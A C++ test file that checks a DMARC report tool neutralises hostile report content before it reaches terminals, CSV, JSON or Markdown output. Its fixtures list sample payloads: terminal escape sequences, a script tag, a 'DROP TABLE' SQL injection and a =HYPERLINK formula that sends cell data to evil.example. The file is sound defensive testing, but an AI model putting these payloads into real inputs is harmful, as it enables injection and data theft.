// SPDX-License-Identifier: MIT
// What comes out of a store that strangers have filled with markup, formulas, terminal escapes and SQL.
#include "ingest/model/text.hpp"
#include "reports/escape.hpp"
#include "store/sqlite.hpp"
#include "tests/cli/cli_world.hpp"
#include "tests/support/report_text.hpp"

#include <algorithm>
#include <cstdint>
#include <filesystem>
#include <set>
#include <sstream>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

namespace ruascope::test {
namespace {

using Json = nlohmann::json;
using Words = std::vector<std::string>;
namespace fs = std::filesystem;

const std::string hostile = std::string{RUASCOPE_SOURCE_DIR} + "/tests/data/hostile";
const std::string steering_name = "a\x1b]0;owned\x07\xC2\x9B\x33\x31m\xE2\x80\xAE\n\tb\x7F\xFF.xml";

// A store with all hostile texts, from files whose names are hostile as well.
struct HostileWorld : CliWorld {
  HostileWorld() {
    const std::set<std::string> rows{"H9", "H10", "H11", "H12", "H13", "H14"};
    fs::create_directories(folder.path("in"));
    for (const auto& entry : fs::directory_iterator(hostile)) {
      const auto name = entry.path().filename().string();
      if (rows.contains(name.substr(0, name.find('-'))))
        fs::copy_file(entry.path(), folder.path("in/" + name));
    }
    ReportText report;
    report.report_id = "in a named file";
    folder.write("in/" + steering_name, report.xml());
    folder.write("in/refused-" + steering_name, report.xml().substr(0, 300));
    imported = run({"import", folder.path("in")});
  }
  Answer imported;
};

// Section 5 of the catalogue: what may reach no terminal.
bool steers(char32_t c) {
  return (c < 0x20 && c != '\n') || (c >= 0x7F && c <= 0x9F) || c == 0x61C || (c >= 0x200B && c <= 0x200F) ||
         (c >= 0x2028 && c <= 0x202E) || (c >= 0x2060 && c <= 0x206F) || c == 0xFEFF ||
         (c >= 0xE0000 && c <= 0xE007F);
}

std::string without_bold(std::string text) {
  for (const std::string code : {"\x1b[1m", "\x1b[0m"})
    for (auto at = text.find(code); at != std::string::npos; at = text.find(code, at))
      text.erase(at, code.size());
  return text;
}

void check_harmless(std::string_view text) {
  CHECK(is_valid_utf8(text));
  std::size_t steering = 0;
  while (!text.empty()) steering += steers(take_character(text)) ? 1 : 0;
  CHECK(steering == 0);
}

const std::vector<Words> questions{
    {"reports", "--since", "2000-01-01"},
    {"reports", "--with-warnings"},
    {"records", "--since", "2000-01-01"},
    {"sources", "--since", "2000-01-01"},
    {"domains", "--since", "2000-01-01"},
    {"unreadable", "list"},
    {"records", "--reporter", "a\xC2\x9B\x33\x31m"},
    {"findings", "--since", "2000-01-01"},
    {"reporters", "--since", "2000-01-01"},
    {"sources", "--by", "sender", "--since", "2000-01-01"},
    {"sources", "--by", "selector", "--since", "2000-01-01"},
    {"trend", "--of", "sender", "--since", "2000-01-01", "--by", "month"},
    {"trend", "--of", "reporter", "--since", "2000-01-01", "--by", "month"},
    {"what-if", "example.com", "--policy", "reject", "--since", "2000-01-01"},
    {"what-if", "example.com", "--policy", "reject", "--by", "reporter", "--since", "2000-01-01"},
    {"sources", "0.0.0.0/0", "--since", "2000-01-01"}};

Words with(Words words, const Words& more) {
  words.insert(words.end(), more.begin(), more.end());
  return words;
}

// RFC 4180.
std::vector<Words> csv_rows(const std::string& text) {
  std::vector<Words> rows(1, Words(1));
  bool quoted = false;
  for (std::size_t at = 0; at < text.size(); ++at) {
    auto& cell = rows.back().back();
    if (quoted && text[at] == '"' && text.substr(at, 2) == "\"\"")
      cell += text[at++];
    else if (text[at] == '"')
      quoted = !quoted;
    else if (!quoted && text[at] == ',')
      rows.back().emplace_back();
    else if (!quoted && text.substr(at, 2) == "\r\n") {
      ++at;
      rows.emplace_back(1);
    } else
      cell += text[at];
  }
  rows.pop_back();
  return rows;
}

bool is_formula(const std::string& cell) { return cell.find_first_of("=+-@\t\r") == 0; }

// How many of `mark` stand in a line of Markdown without a backslash before them.
std::size_t unescaped(const std::string& line, char mark) {
  std::size_t number = 0;
  for (std::size_t at = 0; at < line.size(); ++at) {
    if (line[at] == '\\')
      ++at;
    else
      number += line[at] == mark ? 1 : 0;
  }
  return number;
}

}  // namespace

TEST_CASE("nothing that steers a terminal gets there") {
  HostileWorld world;
  CHECK(world.imported.status == 3);
  check_harmless(world.imported.out);
  check_harmless(world.imported.err);
  for (const std::size_t width : {std::size_t{0}, std::size_t{80}}) {
    world.width = width;
    for (const auto& question : questions) {
      CAPTURE(question[0], question[1], width);
      const auto plain = world.run(question);
      CHECK(plain.status == 0);
      check_harmless(plain.out);
      check_harmless(plain.err);
      const auto bold = world.run(with({"--color", "always"}, question));
      check_harmless(without_bold(bold.out));
      CHECK(without_bold(bold.out) == plain.out);
      check_harmless(world.data(with(question, {"--format", "markdown"})));
    }
  }
  const auto rows = Json::parse(world.data({"unreadable", "list", "--format", "json"}))["rows"];
  CHECK(rows.size() > 3);
  for (const auto& row : rows)
    check_harmless(world.data({"unreadable", "show", std::to_string(row["id"].get<int>())}));
}

TEST_CASE("what is said of a stranger's name or id steers no terminal either") {
  const HostileWorld world;
  const auto ids = Json::parse(world.data({"reports", "--format", "json"}))["rows"];
  std::size_t dropped = 0;
  for (const auto& row : ids) {
    const auto id = row["report_id"].get<std::string>();
    if (!id.starts_with("H12")) continue;
    const auto answer = world.run({"reports", "drop", id});
    dropped += answer.status == 0 ? 1 : 0;
    check_harmless(answer.out + answer.err);
  }
  CHECK(dropped > 10);
  for (const auto& words : {Words{"import", "none/" + steering_name}, Words{"reports", "drop", steering_name},
                            Words{"domains", "--db", steering_name}, Words{"domains", steering_name},
                            Words{"domains", "--domain", steering_name}, Words{steering_name}}) {
    CAPTURE(words[0], words.size());
    const auto answer = world.run(words);
    CHECK(answer.status != 0);
    check_harmless(answer.out + answer.err);
  }
}

TEST_CASE("JSON is ASCII, can be parsed and says what the reporter said") {
  const HostileWorld world;
  for (const auto& question : questions) {
    CAPTURE(question[0], question[1]);
    for (const std::string format : {"json", "ndjson"}) {
      const auto text = world.data(with(question, {"--format", format}));
      CHECK(
          std::all_of(text.begin(), text.end(), [](char c) { return (c >= ' ' && c <= '~') || c == '\n'; }));
      std::istringstream lines(format == "json" ? std::string{} : text);
      for (std::string line; std::getline(lines, line);) CHECK(Json::parse(line).is_object());
      if (format == "json") CHECK(Json::parse(text)["rows"].is_array());
    }
  }
  std::set<std::string> names;
  const auto rows = Json::parse(world.data({"reports", "--format", "json"}))["rows"];
  for (const auto& row : rows) names.insert(row["org_name"].get<std::string>());
  for (const std::string name :
       {"<script>alert(\"1\")</script>", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(A1:A9)",
        "a\nruascope: error: forged\n\tb", "a\xC2\x9D\x30;owned\xC2\x9C\xC2\x9B\x33\x31mb\xC2\x85\x63",
        "'; DROP TABLE report; --", "%s%n%p {} {0} {:>99999999} {{", "\\\"},\"x\":\"\\u0000\\uD800",
        "a\xF3\xA0\x81\x81\xF3\xA0\x81\x82\xF3\xA0\x81\xBF"}) {
    CAPTURE(name);
    CHECK(names.contains(name));
  }
}

TEST_CASE("no cell of CSV is a formula or steers a terminal, unless it was asked for") {
  const HostileWorld world;
  std::size_t defused = 0;
  for (const auto& question : questions) {
    CAPTURE(question[0], question[1]);
    const auto text = world.data(with(question, {"--format", "csv"}));
    auto lines = text;
    std::erase(lines, '\r');  // of the line ends, which nothing in a cell may bring
    check_harmless(lines);
    CHECK(text.size() - lines.size() == static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n')));
    const auto rows = csv_rows(text);
    const auto raw = csv_rows(world.data(with(question, {"--format", "csv", "--raw-csv"})));
    REQUIRE(rows.size() == raw.size());
    for (std::size_t row = 0; row < rows.size(); ++row) {
      REQUIRE(rows[row].size() == rows[0].size());
      REQUIRE(raw[row].size() == rows[0].size());
      for (std::size_t column = 0; column < rows[row].size(); ++column) {
        const auto& cell = raw[row][column];
        const bool is_number = cell.find_first_not_of("-0123456789") == std::string::npos;
        const auto expected = (is_formula(cell) && !is_number ? "'" : "") + terminal_text(cell);
        if (rows[row][column] != expected) CHECK(rows[row][column] == expected);
        defused += expected != cell ? 1 : 0;
      }
    }
  }
  CHECK(defused > 50);
}

TEST_CASE("what CSV left as it is equals what JSON says") {
  const HostileWorld world;
  const Words question{"reports", "--sort", "report_id"};
  const auto raw = csv_rows(world.data(with(question, {"--format", "csv", "--raw-csv"})));
  const auto rows = Json::parse(world.data(with(question, {"--format", "json"})))["rows"];
  REQUIRE(raw.size() == rows.size() + 1);
  for (std::size_t row = 0; row < rows.size(); ++row)
    for (std::size_t column = 0; column < raw[0].size(); ++column) {
      const auto& cell = rows[row][raw[0][column]];
      if (cell.is_string()) CHECK(cell == raw[row + 1][column]);
    }
}

TEST_CASE("no text breaks out of a table of Markdown or becomes markup in it") {
  const HostileWorld world;
  for (const auto& question : questions) {
    CAPTURE(question[0], question[1]);
    std::istringstream lines(world.data(with(question, {"--format", "markdown"})));
    std::string head;
    REQUIRE(std::getline(lines, head));
    std::size_t rows = 0;
    for (std::string line; std::getline(lines, line) && !line.empty(); ++rows) {
      INFO(line);
      CHECK(line.starts_with("| "));
      CHECK(unescaped(line, '|') == unescaped(head, '|'));
      for (const char mark : {'<', '>', '`', '[', ']', '*', '_', '!'}) CHECK(unescaped(line, mark) == 0);
    }
    CHECK((rows > 1 || question.back().ends_with("m")));
  }
}

TEST_CASE("nothing is written but the store, wherever names point to") {
  const CliWorld world;
  const auto start = world.folder.path("a/b/c");
  fs::create_directories(start);
  fs::create_directories(world.folder.path("home"));
  fs::current_path(start);
  const auto paths = [&] {
    std::set<std::string> all;
    for (const auto& entry : fs::recursive_directory_iterator(world.folder.path())) all.insert(entry.path());
    return all;
  };
  const auto before = paths();
  for (const auto& entry : fs::directory_iterator(hostile))
    if (entry.path().filename().string().starts_with("H9-")) world.run({"import", entry.path()});
  auto after = paths();
  for (const std::string suffix : {"", "-wal", "-shm"}) after.erase(world.store + suffix);
  CHECK(after == before);
  for (const std::string path :
       {"/tmp/ruascope-hostile.xml", "/tmp/ruascope-hostile", "/ruascope-hostile.xml"})
    CHECK_FALSE(fs::exists(path));
  CHECK(Json::parse(world.data({"reports", "--format", "json"}))["rows"].size() > 15);
}

TEST_CASE("SQL in texts is text, and sums saturate") {
  const HostileWorld world;
  CHECK(world.data({"db", "verify"}) == "sound: structure, references and all sums\n");
  const auto answer = Json::parse(world.data({"domains", "--since", "2000-01-01", "--format", "json"}));
  CHECK(answer["totals"]["messages"] == INT64_MAX);
}

TEST_CASE("the store keeps who mailed a forged report") {
  const HostileWorld world;
  Sqlite store(world.store, Sqlite::Mode::read_only);
  auto rows = store.prepare(
      "SELECT copy.from_domain, copy.message_id FROM copy JOIN v_report ON v_report.report = copy.report "
      "WHERE org_name = 'google.com' AND email = 'noreply-dmarc-support@google.com' ORDER BY message_id");
  std::size_t forged = 0;
  for (; rows.step(); ++forged) {
    const std::string id{rows.text(1)};
    CAPTURE(id);
    CHECK(rows.text(0) == (id.starts_with("H14-no-") ? "" : "attacker.example"));
  }
  CHECK(forged == 7);
}

}  // namespace ruascope::test
